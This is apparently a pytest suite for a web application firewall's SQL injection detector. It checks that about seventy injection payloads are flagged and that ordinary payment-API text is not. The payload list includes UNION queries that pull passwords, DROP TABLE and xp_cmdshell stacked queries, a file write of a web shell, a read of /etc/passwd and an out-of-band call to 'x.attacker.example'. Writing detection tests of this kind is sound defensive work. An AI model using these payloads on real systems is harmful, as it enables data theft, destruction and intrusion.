"""The SQL injection detector: injections in every dialect are caught, payment-API text passes."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.gotestwaf import corpus_payloads, decoded_variants

from strongroom.edge.waf.findings import CRITICAL, Finding
from strongroom.edge.waf.sqli import detect_sqli

INJECTIONS = [
    # boolean-based, string context
    "' or 1=1--",
    "' OR '1'='1",
    "admin' or '1'='1'--",
    '" or ""="',
    "' or ''='",
    "') or ('a'='a",
    "1' AND '1'='1",
    "x' AnD 1=1 AnD 'a'='a",
    "%' AND 1=1 AND '%'='",
    "'or''='",
    "' or true--",
    "' OR 2>1 --",
    "' or username is not null or username = '",
    "1' and 1 between 1 and 2-- -",
    "' OR EXISTS(SELECT * FROM users WHERE username='admin')--",
    # boolean-based, numeric context
    "1 AND 1=1",
    "1 OR 1=1",
    "-1 OR 17-7=10",
    "1) AND (1=1",
    "123) AND 12=12 AND JSON_DEPTH('{}') != 2521",
    "1 and ascii(substring((select database()),1,1))>100",
    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
    "or 1=1--",
    "1 OR TRUE-- -",
    # comments closing the statement
    "admin'--",
    "admin' #",
    "admin'/*",
    'admin")--',
    # UNION-based
    "' UNION SELECT NULL--",
    "' UNION ALL SELECT NULL,NULL,NULL-- -",
    "-1 UNION SELECT 1,2,3",
    "1 union select users from password",
    "1e1 union select users from password",
    "' UNION SELECT username, password FROM users--",
    "-1' UNION SELECT 1,@@version,3#",
    "x' UNION SELECT username || ':' || password FROM users",
    "1/**/UNION/**/SELECT/**/1,2,3",
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "/*!UNiOn*/ /*!SeLEct*/",
    "') UNION ALL SELECT NULL,NULL AND ('a'='a",
    # stacked queries
    "1; DROP TABLE users",
    "1'; DROP TABLE users--",
    "'; exec master..xp_cmdshell 'ping 10.10.1.2'--",
    "1; DECLARE @q varchar(99); SET @q='x'; EXEC(@q)--",
    "'; shutdown--",
    "1';update users set password='x' where 'a'='a",
    "'; insert into users values('hacker','pass')--",
    "1;select pg_sleep(5)--",
    # time-based
    "1 AND SLEEP(5)",
    "1' AND (SELECT 1234 FROM (SELECT(SLEEP(5)))abc)-- -",
    "1 AND BENCHMARK(5000000,MD5(1))",
    "1' || pg_sleep(5) --",
    "'; WAITFOR DELAY '0:0:5'--",
    "1' WAITFOR DELAY '00:00:05'--",
    "' AND 1337=DBMS_PIPE.RECEIVE_MESSAGE(CHR(118)||CHR(71),5) AND 'x'='x",
    "0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
    "(select(0)from(select(sleep(15)))v)",
    # error-based and out-of-band
    "1' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT version())))-- -",
    "1 AND UPDATEXML(1,CONCAT(0x7e,(SELECT user()),0x7e),1)",
    "' AND 1=CONVERT(int,(SELECT @@version))--",
    "' AND 1=UTL_INADDR.GET_HOST_ADDRESS('x.attacker.example')--",
    "' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--",
    "1 and (select count(*) from sysobjects)>0",
    "' union select 1,table_name from information_schema.tables--",
    "'+(SELECT 1 FROM (SELECT SLEEP(5))A)+'",
    "'||(SELECT pg_sleep(5))||'",
    # ordering and grouping probes
    "1' ORDER BY 3--+",
    "' HAVING 1=1--",
    "' GROUP BY columnnames HAVING 1=1 --",
    "' INTO OUTFILE '/var/www/shell.php'--",
    "(select load_file('/etc/passwd'))",
    "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
]

PAYMENT_API_TEXT = [
    "O'Brien",
    "D'Angelo",
    "Patrick O'Neil-Smith",
    "Rock & Roll Ltd",
    "12 Union St; Apt 4",
    "select the best option and drop it by Friday",
    "Invoice #123 -- paid",
    "1=1 is true",
    "<3 thanks!",
    "a < b and c > d",
    "Tom & Jerry's <Best> Shop",
    "john.doe+or@example.com",
    "https://shop.example.com/search?q=shoes&size=10&sort=price",
    "2024-01-15T10:30:00Z",
    '{"amount": 100, "currency": "EUR", "note": "rent"}',
    "# Heading\n\n* item one\n* item two",
    "cat food; dog food",
    "rm 12",
    "please | forward to finance",
    "dGhpcyBpcyBhIHRlc3Qgb2YgYmFzZTY0IGVuY29kaW5n",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "550e8400-e29b-41d4-a716-446655440000",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "_ga=GA1.2.123.456",
    "_ga=GA1.2.1.1700000000; _gid=GA1.2.9.1700000000; session=abc123",
    "It's a beautiful day, isn't it?",
    "I'd like to order 2 or 3 items",
    "Don't forget: select one from the list",
    "The union of sets A and B",
    "C'est la vie -- or is it?",
    'He said "yes" or "no" and left.',
    "I'm 5'10\" tall",
    "She's 5' or 6' tall",
    "1 or 2 tickets please",
    "Drop table reservation for 4 people",
    "Update: the meeting moved; drop by anytime",
    "Order by phone or online",
    "Use 'or' to combine filters",
    "l'union fait la force",
    "rock 'n' roll or jazz",
    "Mr. O'Reilly's \"special\" offer -- 50% off!",
    "Order #12345 -- shipped; tracking 1Z999",
    "union was a great select",
    "D'or 1st parfume",
    "1) a-b=c",
    "DEAR FINN,--I think it would do; copy should reach us second post",
    "_SELECT all the rows of fromDate = @-_",
    "and =IS=C5HF95_=",
    '<a href="#top">back to top</a>',
    '"-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIU',
    "Please sleep (8 hours) before the exam",
    "the sleep(5) call returns after five seconds",
]


@pytest.mark.parametrize("value", INJECTIONS)
def test_injections_are_found_at_paranoia_1(value: str) -> None:
    finding = detect_sqli(value)
    assert finding is not None, value
    assert finding.category == "sqli"
    assert finding.severity == CRITICAL
    assert finding.paranoia == 1


@pytest.mark.parametrize("value", PAYMENT_API_TEXT)
def test_payment_api_text_passes_at_paranoia_1(value: str) -> None:
    assert detect_sqli(value) is None


def test_a_lone_quoted_or_is_a_weak_signal_for_higher_paranoia() -> None:
    value = "Use 'or' to combine filters"
    assert detect_sqli(value, paranoia=1) is None
    finding = detect_sqli(value, paranoia=2)
    assert finding is not None
    assert finding.paranoia == 2
    assert finding.severity < CRITICAL


def test_a_numeric_or_without_a_condition_is_a_weak_signal() -> None:
    assert detect_sqli("1 or 2", paranoia=1) is None
    assert detect_sqli("1 or 2", paranoia=2) is not None


@pytest.mark.parametrize(
    ("value", "rule_id"),
    [
        ("' or 1=1--", "sqli-tautology"),
        ("1 union select 1,2,3", "sqli-union"),
        ("1; drop table users", "sqli-stacked"),
        ("1 and sleep(5)", "sqli-time"),
        ("1 and extractvalue(1,concat(0x5c,version()))", "sqli-function"),
        ("admin'--", "sqli-comment"),
        ("1 union select 1 from information_schema.tables", "sqli-schema"),
    ],
)
def test_rule_ids_name_the_construct_found(value: str, rule_id: str) -> None:
    finding = detect_sqli(value)
    assert finding is not None
    assert finding.rule_id == rule_id


def test_evidence_is_a_short_fingerprint_and_excerpt() -> None:
    finding = detect_sqli("x' or 1=1 -- " + "padding " * 50)
    assert finding is not None
    assert len(finding.evidence) <= 64
    assert "or 1=1" in finding.evidence


def test_an_injection_after_a_long_prefix_is_found() -> None:
    assert detect_sqli("A" * 131_072 + "' UNION SELECT username || ':' || password FROM users")


def test_long_adversarial_values_are_inspected_in_bounded_time() -> None:
    for value in (
        "' " + ")" * 262_144,
        "'" * 262_144,
        "' or case " + "when 1 then 2 " * 18_000,
        ";select 1" * 29_000,
        "sleep(" * 43_000,
        "' or " + "(" * 5_000 + "1=1",
    ):
        started = time.perf_counter()
        detect_sqli(value, paranoia=4)
        assert time.perf_counter() - started < 1.0


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400), st.integers(min_value=1, max_value=4))
def test_arbitrary_text_never_raises(value: str, paranoia: int) -> None:
    finding = detect_sqli(value, paranoia)
    assert finding is None or (
        isinstance(finding, Finding)
        and finding.paranoia <= paranoia
        and len(finding.evidence) <= 64
    )


SQL_ALPHABET = st.sampled_from(
    ["'", '"', " ", "or", "and", "1", "=", "(", ")", "--", "#", "/*", "*/", "union", "select",
     ";", "sleep", ",", "null", "from", "x", "||", "@@version", "`"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(SQL_ALPHABET, max_size=80))
def test_sql_shaped_token_soup_never_raises(parts: list[str]) -> None:
    detect_sqli("".join(parts), paranoia=4)


def test_the_public_corpus_sql_injections_are_found() -> None:
    payloads = corpus_payloads(
        "owasp/sql-injection.yml",
        "community/community-sqli.yml",
        "community/community-8kb-sqli.yml",
        "community/community-128kb-sqli.yml",
    )
    missed = [p for p in payloads if not any(detect_sqli(v) for v in decoded_variants(p))]
    assert missed == []


def test_the_public_corpus_benign_texts_pass() -> None:
    texts = corpus_payloads("false-pos/texts.yml")
    flagged = [t for t in texts if any(detect_sqli(v) for v in decoded_variants(t))]
    assert flagged == []
